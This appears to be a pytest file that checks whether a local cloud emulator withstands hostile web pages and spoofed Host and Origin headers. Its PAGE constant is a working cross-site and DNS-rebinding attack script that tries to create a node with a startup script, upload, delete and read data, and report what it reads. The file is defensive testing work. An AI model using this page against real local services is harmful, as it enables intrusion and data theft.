"""The emulator answers the programs it is meant for, and no web page: neither its requests nor those of a browser."""

from __future__ import annotations

import contextlib
import json
import os
import signal
import subprocess
import tempfile
import threading
import time
from http.client import HTTPConnection
from http.server import BaseHTTPRequestHandler
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
import requests
from rig import Rig

from browser import browsing, needs_browser
from cloud_emulator import Emulator
from local_server import LocalServer, send

PLACE = "v2/projects/tpulm-emulator/locations/us-central1-a/nodes"
BUCKET = "storage/v1/b/runs"


def status_of(address: str, path: str, headers: dict[str, str], method: str = "GET") -> int:
    """The status of a request with these headers and no others."""
    connection = HTTPConnection(address, timeout=30)
    connection.putrequest(method, path, skip_host=True, skip_accept_encoding=True)
    for name, value in headers.items():
        connection.putheader(name, value)
    connection.endheaders()
    status = connection.getresponse().status
    connection.close()
    return status


def test_a_host_is_a_loopback_name(gcs: Emulator):
    url = urlsplit(gcs.url)
    port = url.port
    ours = (url.netloc, "LocalHost", f"[::1]:{port}", "localhost:80")  # the last through a forwarded port
    others = (f"127.0.0.1.evil.example:{port}", "evil.example:127.0.0.1", "127.0.0.1@evil.example", f"127.0.0.2:{port}", "")
    for host in (*ours, *others):
        assert status_of(url.netloc, f"{url.path}/{BUCKET}", {"Host": host}) == (200 if host in ours else 421), host


def test_nobody_has_an_origin(gcs: Emulator):
    url = urlsplit(gcs.url)
    for origin in ("http://evil.example", "null", f"http://{url.netloc}", ""):
        headers = {"Host": url.netloc, "Origin": origin}
        assert status_of(url.netloc, f"{url.path}/{BUCKET}", headers) == 403
        preflight = {**headers, "Access-Control-Request-Method": "DELETE"}
        assert status_of(url.netloc, f"{url.path}/{BUCKET}", preflight, "OPTIONS") == 403


def test_nothing_is_answered_without_the_token(gcs: Emulator):
    url = urlsplit(gcs.url)
    token, headers = url.path.strip("/"), {"Host": url.netloc, "Content-Length": "0"}
    answered = gcs.requests
    wrong = ("", f"/{token[:-1]}", f"/{token}0", f"/{token[::-1]}", f"/%{ord(token[0]):x}{token[1:]}", f"//{token}")
    for method, path in (
        ("GET", ""),
        ("GET", "_control/status"),
        ("POST", f"{PLACE}?nodeId=evil"),
        ("POST", "upload/storage/v1/b/runs/o?uploadType=media&name=evil"),
        ("DELETE", BUCKET),
        ("POST", "batch/storage/v1"),
        ("GET", "runs/object"),
        ("POST", "_iam/v1/projects/tpulm-emulator/serviceAccounts"),
        ("GET", "no/such/path"),
    ):
        for prefix in wrong:
            assert status_of(url.netloc, f"{prefix}/{path}", headers, method) == 403, (prefix, path)
    assert gcs.requests == answered
    refused = requests.get(f"http://{url.netloc}/_control/status", timeout=30)
    assert "the addresses that the emulator printed" in refused.json()["error"]["message"], "which says what to do"
    assert Emulator().url.rpartition("/")[2] != token, "every emulator has another one"


def test_metadata_servers_know_their_names(rig: Rig):
    address = f"{rig.create().network_endpoints[0].ip_address}:8479"
    path, flavor = "/computeMetadata/v1/instance/attributes/", {"Metadata-Flavor": "Google"}
    for host in (address, address.partition(":")[0], "metadata.google.internal"):
        assert status_of(address, path, {"Host": host, **flavor}) == 200
        assert status_of(address, path, {"Host": host, "Origin": "http://evil.example", **flavor}) == 403
    for host in ("evil.example", "evil.example:8479", "localhost", "metadata.google.internal.evil.example", ""):
        assert status_of(address, path, {"Host": host, **flavor}) == 421


# A page that does what it can at BASES, addresses of the emulator, one of them by a name that somebody made to lead here. What
# could be read is reported, and the page of the next site follows.
PAGE = """<!doctype html><body><script>
const next = {"localhost": "127.0.0.1", "127.0.0.1": "evil.example"}[location.hostname];
const node = JSON.stringify({acceleratorType: "v3-8", runtimeVersion: "tpu-ubuntu2204-base",
                             metadata: {"startup-script": "#!/bin/bash\\ntouch MARK"}});
const faults = '{"read_only": true}', read = [];
async function attempt(url, options) {
  try {
    const answer = await fetch(url, {signal: AbortSignal.timeout(5000), ...options});
    const text = await answer.text();
    if (answer.ok) read.push(url + " " + text);
  } catch {}
}
function add(kind, fields) {
  const made = Object.assign(document.createElement(kind), fields);
  document.body.append(made);
  return made;
}
async function attack(base, number) {
  const posts = [[`${base}/PLACE?nodeId=n-${location.hostname.replaceAll(".", "-")}-${number}`, node],
                 [base + "/upload/BUCKET/o?uploadType=media&name=evil", "x"], [base + "/_control/faults", faults]];
  for (const [to, body] of posts) {
    add("iframe", {name: to});
    const form = add("form", {method: "POST", action: to, enctype: "text/plain", target: to});
    const [name, value] = [body.slice(0, -1) + ', "description": "', '"}'];  // text/plain puts a "=" between them
    form.append(Object.assign(document.createElement("input"), {name, value}));
    form.submit();
    navigator.sendBeacon(to, body);
    for (const mode of ["no-cors", "cors"])
      for (const type of ["text/plain", "application/json"])
        await attempt(to, {method: "POST", mode, body, headers: {"Content-Type": type}});
  }
  for (const mode of ["no-cors", "cors"]) {
    await attempt(base + "/BUCKET/o/kept", {method: "DELETE", mode});
    for (const path of ["/BUCKET/o/kept?alt=media", "/runs/kept", "/_control/tpu/status"]) await attempt(base + path, {mode});
  }
  const shown = add("iframe", {src: base + "/_control/status"});
  await new Promise(done => { shown.onload = shown.onerror = done; setTimeout(done, 2000); });
  try {
    const text = shown.contentDocument.body.innerText;
    if (text && !text.startsWith('{"error"')) read.push(text);
  } catch {}
}
(async () => {
  await Promise.all(BASES.map(attack));
  await fetch("/report", {method: "POST", body: JSON.stringify({host: location.hostname, read})});
  if (next) location = location.href.replace(location.hostname, next);
})();
</script>"""


class Site(LocalServer):
    """A site of many names, with one page."""

    def __init__(self, page: str):
        self.page, self.reports, self.all_told = page.encode(), dict[str, list[str]](), threading.Event()
        super().__init__()

    def answer(self, request: BaseHTTPRequestHandler, path: str, body: bytes) -> None:
        send(request, 200, self.page, {"Content-Type": "text/html"})
        if request.command == "POST":
            report = json.loads(body)
            self.reports[report["host"]] = report["read"]
            if len(self.reports) == 3:
                self.all_told.set()


@pytest.mark.slow
@needs_browser
def test_pages_of_other_sites_do_and_read_nothing(rig: Rig, tmp_path: Path):
    """Neither without the token nor, should they have learnt it, with it."""
    rig.emulator.create_bucket("runs")
    put = {"uploadType": "media", "name": "kept"}
    requests.post(f"{rig.emulator.url}/upload/{BUCKET}/o", params=put, data=b"only for me", timeout=30).raise_for_status()
    url, mark = urlsplit(rig.emulator.url), tmp_path / "a-script-ran"
    names = ("127.0.0.1", "localhost", "evil.example")
    bases = [f"http://{name}:{url.port}{path}" for name in names for path in ("", url.path)]
    page = PAGE.replace("BASES", json.dumps(bases)).replace("PLACE", PLACE).replace("BUCKET", BUCKET).replace("MARK", str(mark))
    # A short path: Chromium's sockets lie there, whose names end at 107 bytes.
    with tempfile.TemporaryDirectory(prefix="tpulm-", dir="/tmp", ignore_cleanup_errors=True) as home, Site(page) as site:
        address = site.url.replace("127.0.0.1", "localhost")
        command = browsing(f"{address}/page", home, "MAP evil.example 127.0.0.1")
        environment = {**os.environ, "HOME": home, "TMPDIR": home}
        quiet: Any = {"stdin": subprocess.DEVNULL, "stderr": subprocess.DEVNULL}
        browser = subprocess.Popen(command, env=environment, start_new_session=True, **quiet)
        try:
            assert site.all_told.wait(120), site.reports
        finally:
            until = time.monotonic() + 10
            with contextlib.suppress(ProcessLookupError):
                while time.monotonic() < until:  # its helpers write into the folder until they have ended, too
                    os.killpg(browser.pid, signal.SIGKILL)
                    browser.wait()
                    time.sleep(0.05)
    assert not any(site.reports.values()), site.reports
    assert not rig.tpu.nodes() and not mark.exists()
    status = requests.get(f"{rig.emulator.url}/_control/status", timeout=30).json()
    assert not status["faults"]["read_only"]
    listed = requests.get(f"{rig.emulator.url}/{BUCKET}/o", timeout=30).json()["items"]
    assert [item["name"] for item in listed] == ["kept"]
    assert requests.get(f"{rig.emulator.url}/runs/kept", timeout=30).content == b"only for me"
    rig.create()  # no stock-out either
